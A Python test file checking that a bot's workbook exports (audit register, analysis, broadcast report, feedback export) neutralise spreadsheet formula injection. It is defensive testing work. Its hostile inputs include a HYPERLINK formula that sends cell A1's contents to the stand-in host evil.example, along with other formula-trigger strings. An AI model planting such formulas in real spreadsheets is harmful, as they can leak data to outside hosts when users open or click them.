"""Workbooks never carry live formulas from data: every workbook the bot writes (the audit
register and the analysis through XlsxWriter, the broadcast report and the feedback export through
openpyxl) goes through dialogs/workbooks.py. Hostile text (a staff name "=HYPERLINK(...)", a team
"=1+2", and text starting + - @ tab or carriage return) is read back by openpyxl as the same text,
in a string cell, never a formula; numbers stay numbers. Storage on both databases."""
from __future__ import annotations

import io
import re
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlalchemy import select, update

from dialogs import workbooks
from storage.models import Broadcast, FeedbackEntry, Person
from tests.support import broadcasts as bc
from tests.support.cli import run_cli
from tests.support.observations import add_roster
from tests.support.reports import Case, add_history, add_people

HOSTILE = ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+2", "\r=1+2")


def decoded(value):
    """A cell's text as Excel shows it: XlsxWriter stores a carriage return as OOXML's escape
    _x000D_, which Excel decodes and openpyxl leaves as it is."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def cells(book: openpyxl.Workbook) -> list:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text_kept(book: openpyxl.Workbook, expected: tuple[str, ...] = HOSTILE) -> None:
    found = cells(book)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == []
    texts = {decoded(c.value) for c in found if c.data_type == "s"}
    assert set(expected) - texts == set(), "hostile text not read back as it was written"
    assert all(c.quotePrefix for c in found if workbooks.risky(decoded(c.value)))


@pytest.mark.fast
@pytest.mark.parametrize("value,is_risky", [("=1", True), ("+44 20", True), ("-", True), ("@x", True),
                                            ("\tx", True), ("\rx", True), ("Team North", False), ("", False),
                                            (-5, False), (None, False), (" =1", False)])
def test_what_counts_as_risky(value, is_risky):
    assert workbooks.risky(value) is is_risky


@pytest.mark.fast
def test_the_xlsxwriter_helper_writes_text_as_text_every_way():
    out = io.BytesIO()
    book = workbooks.xlsx_workbook(out, {"in_memory": True})
    bold = book.add_format({"bold": True})
    ws = book.add_worksheet("Writes")
    for i, value in enumerate(HOSTILE):
        ws.write(i, 0, value)  # through write()
        ws.write(i, 1, value, bold)  # with a format of its own
        workbooks.write_text(ws, i, 2, value)  # as the register writes
    ws.write_row(len(HOSTILE), 0, (HOSTILE[0], -5, 2.5))
    tables = book.add_worksheet("Table")
    tables.add_table(0, 0, len(HOSTILE), 1, {"name": "T", "columns": [{"header": "Text"}, {"header": "Number"}],
                                             "data": [[v, -i] for i, v in enumerate(HOSTILE)]})
    book.close()
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    found = cells(read)
    assert [(c.coordinate, c.value) for c in found if c.data_type == "f"] == []
    writes = read["Writes"]
    for i, value in enumerate(HOSTILE, start=1):
        assert [decoded(writes.cell(i, col).value) for col in (1, 2, 3)] == [value] * 3
        assert writes.cell(i, 1).quotePrefix and writes.cell(i, 3).quotePrefix and writes.cell(i, 2).font.b
    assert [(c.value, c.data_type) for c in writes[len(HOSTILE) + 1]] == [(HOSTILE[0], "s"), (-5, "n"), (2.5, "n")]
    assert [(decoded(r[0].value), r[1].value) for r in read["Table"].iter_rows(min_row=2)] == [
        (v, -i) for i, v in enumerate(HOSTILE)]


@pytest.mark.fast
@pytest.mark.parametrize("write_only", [True, False])
def test_the_openpyxl_helper_writes_text_as_text(write_only):
    book = workbooks.openpyxl_workbook(write_only=write_only)
    ws = book.create_sheet("Rows") if write_only else book.active
    workbooks.append(ws, ("Name", "Count"))
    for i, value in enumerate(HOSTILE):
        workbooks.append(ws, (value, -i))
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert_text_kept(read)
    rows = list(read.worksheets[-1].iter_rows(min_row=2, values_only=True))
    assert [(decoded(text), n) for text, n in rows] == [(v, -i) for i, v in enumerate(HOSTILE)]


async def hostile_names(db, ids: list[int]) -> None:
    """Each person in `ids` gets a hostile display name and team, in turn."""
    async with db.sessions.begin() as session:
        for n, person_id in enumerate(ids):
            value = HOSTILE[n % len(HOSTILE)]
            await session.execute(update(Person).where(Person.id == person_id).values(display_name=value, team=value))


async def test_the_register_and_the_analysis_keep_hostile_text(db, tmp_path):
    people = await add_people(db)
    await add_history(db, people, tuple(Case(f"H{i}", "2026-09", "North", state="allocated", theme=value)
                                        for i, value in enumerate(HOSTILE)))
    await hostile_names(db, list(people.values()))
    register, analysis = tmp_path / "register.xlsx", tmp_path / "q3.xlsx"
    code, _, err = await run_cli(db, "report", "register", "--from", "2026-09", "--to", "2026-09", "--out", str(register))
    assert code == 0, err
    assert_text_kept(openpyxl.load_workbook(register))
    code, _, err = await run_cli(db, "report", "quarterly", "--quarter", "2026-Q3", "--out", str(analysis))
    assert code == 0, err
    assert_text_kept(openpyxl.load_workbook(analysis))


async def test_the_broadcast_report_keeps_hostile_text(services, tmp_path):
    db = services.db
    people = await bc.add_people(db, "https://smba.example/", len(HOSTILE))
    notice = tmp_path / "notice.md"
    notice.write_text("Practice week.", encoding="utf-8")
    code, _, err = await run_cli(db, "broadcast", "send", "--title", "Practice week", "--message-file", str(notice),
                                 "--audience", "everyone")
    assert code == 0, err
    await hostile_names(db, list(people.values()))
    async with db.sessions() as s:
        broadcast_id = await s.scalar(select(Broadcast.id))
    out = tmp_path / "report.xlsx"
    code, _, err = await run_cli(db, "broadcast", "report", str(broadcast_id), "--out", str(out))
    assert code == 0, err
    assert_text_kept(openpyxl.load_workbook(out))


async def test_the_feedback_export_keeps_hostile_text(db, tmp_path):
    ids = await add_roster(db)
    author = ids[sorted(ids)[0]]
    at = datetime(2027, 2, 10, 11, tzinfo=UTC)
    async with db.sessions.begin() as session:
        for value in HOSTILE:
            session.add(FeedbackEntry(author_id=author, source="Parent or carer", service_area="Children in Care",
                                      team=value, how_given="Compliment", rating=5, said=value, created_at=at))
    await hostile_names(db, [author])
    out = tmp_path / "feb.xlsx"
    code, _, err = await run_cli(db, "feedback", "export", "--month", "2027-02", "--out", str(out))
    assert code == 0, err
    book = openpyxl.load_workbook(out)
    assert_text_kept(book)
    assert [decoded(r[-1]) for r in book.worksheets[0].iter_rows(min_row=2, values_only=True)] == list(HOSTILE)
